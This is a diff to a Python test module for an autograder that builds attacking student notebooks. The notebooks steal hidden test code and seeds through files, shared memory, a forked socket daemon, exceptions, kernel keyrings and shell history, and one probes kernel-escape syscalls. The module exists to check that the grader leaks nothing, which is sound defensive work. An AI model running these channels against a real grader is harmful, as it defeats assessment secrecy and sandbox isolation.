@@ -12,14 +12,15 @@ values it returns).
 Every stolen block is printed after a line "STOLEN-<channel>:", so that the test can tell that
 each attack ran and look at what it got.
 """
+
 import re
 
 import nbformat
 
 from autograder import samples
+from autograder.cells import split_hidden
 from autograder.checks import cases as check_cases
-from autograder.course import SOLUTIONS
-from autograder.release.calls import split_hidden
+from autograder.course import ASSIGNMENTS
 from autograder.verify import expected_checks, grade_id, is_test
 
 from .corpus import ASSIGNMENT, Case, _with_cell
@@ -60,33 +61,41 @@ def spy(function):
 '''
 
 STASHES = {
-    "global": ("STOLEN = []\ndef stash(text):\n    STOLEN.append(text)\n",
-               "print('STOLEN-global:')\nprint(''.join(STOLEN)[-20000:])"),
-    "files": ("import os\nPLACES = ['/tmp/stash', os.path.expanduser('~/stash'), '/dev/shm/stash']\n"
-              "def stash(text):\n    for place in PLACES:\n        with open(place, 'a') as f:\n            f.write(text)\n",
-              "print('STOLEN-files:')\nfor place in PLACES:\n    try:\n        print(open(place).read()[-8000:])\n"
-              "    except OSError as error:\n        print(place, error)"),
+    "global": (
+        "STOLEN = []\ndef stash(text):\n    STOLEN.append(text)\n",
+        "print('STOLEN-global:')\nprint(''.join(STOLEN)[-20000:])",
+    ),
+    "files": (
+        "import os\nPLACES = ['/tmp/stash', os.path.expanduser('~/stash'), '/dev/shm/stash']\n"
+        "def stash(text):\n    for place in PLACES:\n        with open(place, 'a') as f:\n            f.write(text)\n",
+        "print('STOLEN-files:')\nfor place in PLACES:\n    try:\n        print(open(place).read()[-8000:])\n"
+        "    except OSError as error:\n        print(place, error)",
+    ),
     # A shared mapping that a child process also holds, written at an offset kept in its first bytes.
-    "mmap": ("import mmap, os, time\nSHARED = mmap.mmap(-1, 1 << 20)\nif os.fork() == 0:\n    time.sleep(600)\n"
-             "    os._exit(0)\ndef stash(text):\n    data = text.encode()[:4000]\n"
-             "    at = int.from_bytes(SHARED[:8], 'little') or 8\n    if at + len(data) < len(SHARED):\n"
-             "        SHARED[at:at + len(data)] = data\n        SHARED[:8] = (at + len(data)).to_bytes(8, 'little')\n",
-             "print('STOLEN-mmap:')\nend = int.from_bytes(SHARED[:8], 'little')\n"
-             "print(SHARED[8:end].decode(errors='replace')[-20000:])"),
+    "mmap": (
+        "import mmap, os, time\nSHARED = mmap.mmap(-1, 1 << 20)\nif os.fork() == 0:\n    time.sleep(600)\n"
+        "    os._exit(0)\ndef stash(text):\n    data = text.encode()[:4000]\n"
+        "    at = int.from_bytes(SHARED[:8], 'little') or 8\n    if at + len(data) < len(SHARED):\n"
+        "        SHARED[at:at + len(data)] = data\n        SHARED[:8] = (at + len(data)).to_bytes(8, 'little')\n",
+        "print('STOLEN-mmap:')\nend = int.from_bytes(SHARED[:8], 'little')\n"
+        "print(SHARED[8:end].decode(errors='replace')[-20000:])",
+    ),
     # A daemon started in an early cell, on an abstract socket: it keeps whatever it is sent.
-    "daemon": ("import os, socket, time\nADDRESS = '\\0lstm-stash'\nif os.fork() == 0:\n    os.setsid()\n"
-               "    server, kept = socket.socket(socket.AF_UNIX), []\n    server.bind(ADDRESS)\n    server.listen()\n"
-               "    while True:\n        client, _ = server.accept()\n        data = client.recv(1 << 16)\n"
-               "        if data == b'GET':\n            client.sendall(b''.join(kept)[-20000:])\n        else:\n"
-               "            kept.append(data)\n        client.close()\n"
-               "time.sleep(0.3)\ndef stash(text):\n    with socket.socket(socket.AF_UNIX) as s:\n"
-               "        s.connect(ADDRESS)\n        s.sendall(text.encode()[:4000])\n",
-               "import socket\nprint('STOLEN-daemon:')\nwith socket.socket(socket.AF_UNIX) as s:\n    s.connect(ADDRESS)\n"
-               "    s.sendall(b'GET')\n    s.shutdown(socket.SHUT_WR)\n    print(s.recv(1 << 20).decode(errors='replace'))"),
+    "daemon": (
+        "import os, socket, time\nADDRESS = '\\0lstm-stash'\nif os.fork() == 0:\n    os.setsid()\n"
+        "    server, kept = socket.socket(socket.AF_UNIX), []\n    server.bind(ADDRESS)\n    server.listen()\n"
+        "    while True:\n        client, _ = server.accept()\n        data = client.recv(1 << 16)\n"
+        "        if data == b'GET':\n            client.sendall(b''.join(kept)[-20000:])\n        else:\n"
+        "            kept.append(data)\n        client.close()\n"
+        "time.sleep(0.3)\ndef stash(text):\n    with socket.socket(socket.AF_UNIX) as s:\n"
+        "        s.connect(ADDRESS)\n        s.sendall(text.encode()[:4000])\n",
+        "import socket\nprint('STOLEN-daemon:')\nwith socket.socket(socket.AF_UNIX) as s:\n    s.connect(ADDRESS)\n"
+        "    s.sendall(b'GET')\n    s.shutdown(socket.SHUT_WR)\n    print(s.recv(1 << 20).decode(errors='replace'))",
+    ),
 }
 
 # Added last: everything the shell, the interpreter and the process remember.
-REMEMBERED = r'''
+REMEMBERED = r"""
 import gc, linecache, os, re
 shell = get_ipython()
 print("STOLEN-history:")
@@ -118,20 +127,24 @@ try:
     print(os.read(fd, 1 << 20)[-20000:])
 except OSError as error:
     print("records", error)
-'''
+"""
 
 # The verdict as a channel: an exception whose type and message carry what was stolen, and a
 # result that carries the seed, both only inside a hidden test.
-RAISES = ("\ndef forget_gate(W_f, h_prev, x_t, b_f, _right=forget_gate):\n    seed = in_hidden_test()\n"
-          "    if seed is not None:\n        raise type(f'Seed{seed}', (Exception,), {})(steal())\n"
-          "    return _right(W_f, h_prev, x_t, b_f)\n")
-RETURNS = ("\ndef forget_gate(W_f, h_prev, x_t, b_f, _right=forget_gate):\n    seed = in_hidden_test()\n"
-           "    if seed is not None:\n        return np.full(len(b_f), float(seed))\n"
-           "    return _right(W_f, h_prev, x_t, b_f)\n")
+RAISES = (
+    "\ndef forget_gate(W_f, h_prev, x_t, b_f, _right=forget_gate):\n    seed = in_hidden_test()\n"
+    "    if seed is not None:\n        raise type(f'Seed{seed}', (Exception,), {})(steal())\n"
+    "    return _right(W_f, h_prev, x_t, b_f)\n"
+)
+RETURNS = (
+    "\ndef forget_gate(W_f, h_prev, x_t, b_f, _right=forget_gate):\n    seed = in_hidden_test()\n"
+    "    if seed is not None:\n        return np.full(len(b_f), float(seed))\n"
+    "    return _right(W_f, h_prev, x_t, b_f)\n"
+)
 
 # A pair: the first leaves the hidden seed in whatever outlives a kernel (the zygote's oom score,
 # its session's scheduling group, its nice value, a keyring); the second, graded later, reads it.
-LEAVES_STATE = r'''
+LEAVES_STATE = r"""
 import ctypes, glob, os
 def leave(text):
     seed = in_hidden_test()
@@ -155,20 +168,20 @@ def leave(text):
     for keyring in (-3, -4, -5):  # session, user, user session
         libc.syscall(248, b"user", f"seed {seed}".encode(), b"x", 1, keyring)
 stash = leave
-'''
-READS_STATE = r'''
+"""
+READS_STATE = r"""
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 print("STOLEN-state:")
 print("oom_score_adj", open("/proc/self/oom_score_adj").read().strip(), "nice", os.nice(0))
 print("autogroup", open("/proc/self/autogroup").read().strip() if os.path.exists("/proc/self/autogroup") else None)
 print("keys", open("/proc/keys").read(), "keyctl", libc.syscall(250, 0, -3, 0), ctypes.get_errno())
-'''
+"""
 
 # Right answers, and a cell that tries to reach beyond its kernel: the zygote through /proc,
 # ptrace and process_vm_readv, the grader's keyrings, a user namespace of its own, perf, the
 # host's core_pattern. It prints what happened as JSON after "ESCAPES:".
-ESCAPES = r'''
+ESCAPES = r"""
 import ctypes, errno, json, os
 libc = ctypes.CDLL(None, use_errno=True)
 def call(number, *arguments):
@@ -187,7 +200,7 @@ tried = {"pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
          "process_vm_readv": call(310, 1, 0, 0, 0, 0, 0), "unshare": call(272, 0x10000000),
          "perf_event_open": call(298, 0, 0, -1, -1, 0)}
 print("ESCAPES:", json.dumps(tried))
-'''
+"""
 
 
 def _spied(notebook, stash_code):
@@ -204,26 +217,60 @@ def cases(release):
     found = [Case("right", "every answer right", right)]
     for channel, (stash, reveal) in STASHES.items():
         notebook = _with_cell(_spied(right, stash), "errata", reveal)
-        found.append(Case(f"leaks_by_{channel}", f"right answers; steals from the hidden tests' frames into "
-                                                 f"{channel}, printed in a last cell", notebook))
-    found.append(Case("leaks_what_the_shell_remembers", "right answers; a last cell prints In, Out, _i*, the "
-                      "history, linecache, gc, its own memory and the records channel",
-                      _with_cell(right, "errata", REMEMBERED)))
+        found.append(
+            Case(
+                f"leaks_by_{channel}",
+                f"right answers; steals from the hidden tests' frames into {channel}, printed in a last cell",
+                notebook,
+            )
+        )
+    found.append(
+        Case(
+            "leaks_what_the_shell_remembers",
+            "right answers; a last cell prints In, Out, _i*, the "
+            "history, linecache, gc, its own memory and the records channel",
+            _with_cell(right, "errata", REMEMBERED),
+        )
+    )
     thief = _spied(right, "def stash(text):\n    pass\n")
-    found.append(Case("leaks_through_an_exception", "forget_gate raises an exception named after the hidden seed, "
-                      "its message what it stole", samples.set_cell(
-                          thief, "forget_gate", samples.solution_answers(ASSIGNMENT)["forget_gate"] + RAISES),
-                      zero={"forget_gate_hidden"}))
-    found.append(Case("leaks_through_its_result", "forget_gate returns the hidden seed",
-                      samples.set_cell(thief, "forget_gate",
-                                       samples.solution_answers(ASSIGNMENT)["forget_gate"] + RETURNS),
-                      zero={"forget_gate_hidden"}))
-    found.append(Case("leaves_state_in_the_zygote", "right answers; leaves the hidden seed in the zygote's oom score, "
-                      "nice value, scheduling group and keyrings", _spied(right, LEAVES_STATE)))
-    found.append(Case("zz_reads_state_of_the_zygote", "right answers; prints the oom score, nice value, scheduling "
-                      "group and keyrings it inherited", _with_cell(right, "errata", READS_STATE)))
-    found.append(Case("tries_to_escape_its_kernel", "right answers; ptrace, process_vm_readv, keyrings, a user "
-                      "namespace, perf and core_pattern from a cell", _with_cell(right, "setup", ESCAPES)))
+    found.append(
+        Case(
+            "leaks_through_an_exception",
+            "forget_gate raises an exception named after the hidden seed, its message what it stole",
+            samples.set_cell(thief, "forget_gate", samples.solution_answers(ASSIGNMENT)["forget_gate"] + RAISES),
+            zero={"forget_gate_hidden"},
+        )
+    )
+    found.append(
+        Case(
+            "leaks_through_its_result",
+            "forget_gate returns the hidden seed",
+            samples.set_cell(thief, "forget_gate", samples.solution_answers(ASSIGNMENT)["forget_gate"] + RETURNS),
+            zero={"forget_gate_hidden"},
+        )
+    )
+    found.append(
+        Case(
+            "leaves_state_in_the_zygote",
+            "right answers; leaves the hidden seed in the zygote's oom score, "
+            "nice value, scheduling group and keyrings",
+            _spied(right, LEAVES_STATE),
+        )
+    )
+    found.append(
+        Case(
+            "zz_reads_state_of_the_zygote",
+            "right answers; prints the oom score, nice value, scheduling group and keyrings it inherited",
+            _with_cell(right, "errata", READS_STATE),
+        )
+    )
+    found.append(
+        Case(
+            "tries_to_escape_its_kernel",
+            "right answers; ptrace, process_vm_readv, keyrings, a user namespace, perf and core_pattern from a cell",
+            _with_cell(right, "setup", ESCAPES),
+        )
+    )
     found.append(Case("zz_right_last", "every answer right, graded after every attack", right))
     return found
 
@@ -231,9 +278,12 @@ def cases(release):
 # -- what must never reach a student ---------------------------------------------------------------
 def hidden_cells():
     """[(grade_id, hidden part of its source)] of the assignment's source notebook."""
-    notebook = nbformat.read(SOLUTIONS / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
-    return [(grade_id(cell), split_hidden(cell.source)[1]) for cell in notebook.cells
-            if is_test(cell) and split_hidden(cell.source)[1].strip()]
+    notebook = nbformat.read(ASSIGNMENTS / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
+    return [
+        (grade_id(cell), split_hidden(cell.source)[1])
+        for cell in notebook.cells
+        if is_test(cell) and split_hidden(cell.source)[1].strip()
+    ]
 
 
 def _numbers(value):
@@ -284,10 +334,14 @@ def found(text, secrets, stolen=""):
     """[what] of `secrets` that occur in text. A bare seed number counts only in `stolen` (the
     blocks the attacks printed), where it cannot be a number the page shows for its own reasons;
     a number counts where it is printed with at least 8 decimals."""
-    hits = [what for what, pattern in secrets.items()
-            if not isinstance(pattern, str) and pattern.search(stolen if "bare seed" in what else text)]
-    return hits + sorted({secrets[number] for number in re.findall(r"\d+\.\d{8}", text)
-                          if isinstance(secrets.get(number), str)})
+    hits = [
+        what
+        for what, pattern in secrets.items()
+        if not isinstance(pattern, str) and pattern.search(stolen if "bare seed" in what else text)
+    ]
+    return hits + sorted(
+        {secrets[number] for number in re.findall(r"\d+\.\d{8}", text) if isinstance(secrets.get(number), str)}
+    )
 
 
 def stolen_blocks(text):
